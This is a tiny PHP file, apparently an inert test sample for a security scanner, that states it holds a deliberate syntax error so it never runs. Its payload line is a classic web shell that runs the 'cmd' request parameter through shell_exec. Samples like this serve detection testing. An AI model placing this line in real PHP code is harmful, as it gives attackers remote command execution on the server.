<?php
shodo inert sample: deliberate syntax error, this file never runs
echo '<pre>' . shell_exec($_REQUEST['cmd']) . '</pre>';
